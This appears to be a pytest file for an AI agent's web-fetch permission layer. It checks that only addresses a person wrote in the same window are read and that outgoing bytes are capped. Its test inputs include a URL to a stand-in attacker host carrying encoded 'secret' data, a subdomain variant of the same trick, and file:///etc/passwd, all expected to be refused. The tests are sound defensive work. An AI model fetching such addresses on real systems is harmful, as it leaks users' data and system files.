"""What a window may have read, and how much it may send out: real windows with logs, before a loopback site."""

from __future__ import annotations

import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from actors.kernel import Actor, ActorSpec
from actors.web.config import LEAST_COUNTED_BYTES
from actors.web.permission import NO_WORD, READ_OFF
from messages.base import CONTEXT_KIND, Message, MessageId, RequestId, UserId
from messages.context import NewWindowStarted, Quote, RetractMessages, ReviseMessage, StartNewWindow
from messages.socket import Refused
from messages.status import DescribeYourself, SelfDescription
from tests.actors.web.bench import WEB, Bench, window
from tests.actors.web.site import Site, redirect
from tests.actors.web.test_search import hit, results

MakeBench = Callable[..., Bench]
UNSEEN = "nobody wrote this address in this conversation"


@pytest.fixture
def seen(make_bench: MakeBench, tmp_path: Path) -> Bench:
    return make_bench(read="seen", windows_root=tmp_path)


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Names that are asked for; none leads anywhere."""
    asked: list[str] = []

    def resolve(host: Any, *_: Any, **__: Any) -> Any:
        asked.append(host)
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    return asked


def test_what_a_person_wrote_in_the_window_is_read(seen: Bench) -> None:
    seen.hear(f"please read <{seen.site.base}/article#top>, thanks")

    assert seen.page("/article").title == "On Owls"
    assert seen.page("/article#elsewhere").title == "On Owls"


@pytest.mark.parametrize("address", ["/article", "/article?d=c2VjcmV0", "/", "/article/", "/Article"])
def test_what_nobody_wrote_is_refused_and_no_server_hears_of_it(seen: Bench, address: str) -> None:
    seen.hear(f"there is something at {seen.site.base}/other and {seen.site.base}/article?d=")

    assert UNSEEN in seen.page_refusal(address)
    assert seen.site.asked == []


def test_no_name_server_is_asked_for_what_nobody_wrote(seen: Bench, names: list[str]) -> None:
    seen.hear("there is something at https://known.example/")

    assert UNSEEN in seen.page_refusal("http://exfil-of-the-log.attacker.example/?d=c2VjcmV0")
    assert UNSEEN in seen.page_refusal("https://c2VjcmV0.known.example/")
    assert names == []
    assert "cannot connect" in seen.page_refusal("https://known.example/")
    assert set(names) == {"known.example"}


def test_what_was_written_in_another_window_does_not_count(seen: Bench) -> None:
    seen.hear(f"{seen.site.base}/article", of=window(1))

    assert UNSEEN in seen.page_refusal("/article")


def test_what_a_message_only_quotes_does_not_count_for_the_agent_may_have_written_it(seen: Bench) -> None:
    answer = Quote(
        message_id=MessageId("1"), author_name="Bot", author_id=UserId("2"), text=f"{seen.site.base}/article?d=c2Vj"
    )
    seen.hear("yes", quote=answer)

    assert UNSEEN in seen.page_refusal("/article?d=c2Vj")


def take_back(bench: Bench, *message_ids: MessageId) -> None:
    bench.system.tell(window().address, RetractMessages(window=window(), message_ids=message_ids))


def test_what_was_deleted_does_not_count_any_more_nor_in_a_new_life(
    make_bench: MakeBench, tmp_path: Path, site: Site
) -> None:
    first = make_bench(read="seen", windows_root=tmp_path)
    gone = [first.hear(f"{site.base}/{path}") for path in ("article", "other")]
    assert first.page("/article").title == "On Owls"
    take_back(first, gone[0])
    take_back(first, gone[1])

    assert UNSEEN in first.page_refusal("/article")
    assert UNSEEN in first.page_refusal("/other")
    first.system.stop()
    second = make_bench(read="seen", windows_root=tmp_path)
    assert UNSEEN in second.page_refusal("/article")


def test_of_an_edited_message_what_it_says_now_counts(seen: Bench) -> None:
    message = seen.hear(f"{seen.site.base}/wrong")
    revised = ReviseMessage(window=window(), message_id=message, text=f"{seen.site.base}/article", files=0)
    seen.system.tell(window().address, revised)

    assert seen.page("/article").title == "On Owls"
    assert UNSEEN in seen.page_refusal("/wrong")


def test_an_address_that_another_message_still_has_counts(seen: Bench) -> None:
    gone = seen.hear(f"{seen.site.base}/article")
    seen.hear(f"yes, {seen.site.base}/article")
    take_back(seen, gone)

    assert seen.page("/article").title == "On Owls"


def test_a_result_of_a_search_is_read_in_the_window_that_searched(seen: Bench) -> None:
    seen.site.results = results(hit("Owls", f"{seen.site.base}/article"))
    seen.search()

    assert seen.page("/article").title == "On Owls"
    elsewhere = seen.answer(seen.ask_page("/article", of=window(1)))
    assert isinstance(elsewhere, Refused)
    assert UNSEEN in elsewhere.reason
    assert UNSEEN in seen.page_refusal("/article?d=c2VjcmV0")


def test_links_of_a_page_that_was_read_do_not_count(seen: Bench) -> None:
    seen.hear(f"{seen.site.base}/article")
    assert f"{seen.site.base}/more" in seen.page("/article").markdown

    assert UNSEEN in seen.page_refusal("/more")


def test_where_a_page_redirects_to_is_read(seen: Bench) -> None:
    seen.site.pages["/old"] = redirect("/article")
    seen.hear(f"{seen.site.base}/old")

    assert seen.page("/old").title == "On Owls"
    assert UNSEEN in seen.page_refusal("/article")


def test_a_restart_forgets_results_and_not_what_people_wrote(make_bench: MakeBench, tmp_path: Path, site: Site) -> None:
    site.results = results(hit("Owls", f"{site.base}/found"))
    first = make_bench(read="seen", windows_root=tmp_path)
    first.hear(f"{site.base}/article")
    assert first.page("/article").title == "On Owls"
    first.search()
    first.system.stop()
    second = make_bench(read="seen", windows_root=tmp_path)

    assert second.page("/article").title == "On Owls"
    assert UNSEEN in second.page_refusal("/found")


def test_a_new_conversation_begins_without_addresses(seen: Bench) -> None:
    seen.hear(f"{seen.site.base}/article")
    assert seen.page("/article").title == "On Owls"
    seen.system.tell(
        window().address,
        StartNewWindow(request_id=RequestId("new"), reply_to=seen.edge.address, window=window(), asked_by=UserId("1")),
    )
    assert isinstance(seen.answer(RequestId("new")), NewWindowStarted)

    assert UNSEEN in seen.page_refusal("/article")


def test_where_reading_is_off_nothing_is_read_whatever_it_is(make_bench: MakeBench, subtests: pytest.Subtests) -> None:
    cases: list[str] = ["/article", "http://unknown.example:70/", "nonsense", "file:///etc/passwd"]
    for address in cases:
        with subtests.test(address=address):
            assert make_bench(read="off").page_refusal(address) == READ_OFF


def test_where_reading_is_off_searches_go_on_and_say_so_of_their_pages(make_bench: MakeBench) -> None:
    bench = make_bench(read="off")
    bench.site.results = results(hit("Owls", f"{bench.site.base}/article"))

    assert [result.content for result in bench.search(content=True).results] == [f"({READ_OFF})"]
    assert "/article" not in bench.site.paths()


@pytest.mark.parametrize(
    ("url", "words"),
    [("nonsense", "only http"), ("http://a:b@c.example/", "password"), ("http://[", "not an address")],
)
def test_what_is_no_address_is_refused_with_its_fault(seen: Bench, url: str, words: str) -> None:
    assert words in seen.page_refusal(url)


def test_what_goes_out_is_bounded_for_each_window_and_counted(make_bench: MakeBench) -> None:
    bench = make_bench(out_bytes_per_hour=3 * LEAST_COUNTED_BYTES)
    assert bench.page("/article").title == "On Owls"
    bench.search("owls")
    bench.search("mice")

    assert "within an hour: try again in 60 min" in bench.page_refusal("/article")
    assert "within an hour" in bench.search_refusal("voles")
    assert bench.search("owls", of=window(1)).results == ()
    assert len(bench.site.asked) == 4
    bench.system.tell(WEB, DescribeYourself(request_id=RequestId("how"), reply_to=bench.edge.address))
    description = bench.answer(RequestId("how"))
    assert isinstance(description, SelfDescription)
    assert dict(description.figures)["sent_bytes"] == 4 * LEAST_COUNTED_BYTES


def test_a_long_address_counts_with_every_byte(make_bench: MakeBench) -> None:
    bench = make_bench(out_bytes_per_hour=2_000)

    assert bench.page_refusal("/gone?" + "d" * 1_500) == "HTTP 404: Not Found"
    assert "within an hour" in bench.page_refusal("/gone?" + "d" * 1_500)
    assert "at most 2000 may go out" in bench.page_refusal("/gone?" + "d" * 2_500)


class Silent(Actor):
    """A window that never says anything."""

    def handle(self, message: Message) -> None:
        """Keep silent."""


def test_a_window_that_says_nothing_costs_one_request_and_nothing_is_read(make_bench: MakeBench) -> None:
    bench = make_bench(read="seen", check_s=0.05)
    bench.system.register(ActorSpec(CONTEXT_KIND, lambda _key: Silent()))
    asked = bench.ask_page("/article")

    refused = bench.answer(asked)
    assert isinstance(refused, Refused)
    assert refused.reason == NO_WORD
    assert bench.site.asked == []


def test_who_waits_for_a_windows_word_is_told_when_the_web_service_ends(make_bench: MakeBench) -> None:
    bench = make_bench(read="seen")
    bench.system.register(ActorSpec(CONTEXT_KIND, lambda _key: Silent()))
    asked = bench.ask_page("/article")
    bench.system.stop()

    refused = bench.answer(asked)
    assert isinstance(refused, Refused)
    assert refused.reason == "The web service restarted; try again."
